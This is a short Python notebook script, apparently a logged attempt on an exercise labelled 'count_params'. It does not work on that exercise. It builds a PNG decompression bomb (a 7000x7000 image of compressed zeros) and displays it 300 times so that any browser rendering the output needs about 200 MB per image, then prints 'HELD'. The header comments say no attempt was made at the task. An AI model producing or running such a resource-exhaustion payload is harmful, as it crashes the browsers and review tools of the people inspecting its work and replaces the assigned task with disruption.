# Tries: many small pictures, each of which a browser needs 200 MB for.
# Exercise: count_params
# Ending: no attempt
# Note: Una imagen ocupa
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = struct.pack(">IIBBBBB", 7000, 7000, 1, 0, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(7000 * 876))) + chunk(b"IEND", b"")
for _ in range(300):
    display({"image/png": base64.b64encode(picture).decode(), "text/plain": "HELD"}, raw=True)
print("HELD")
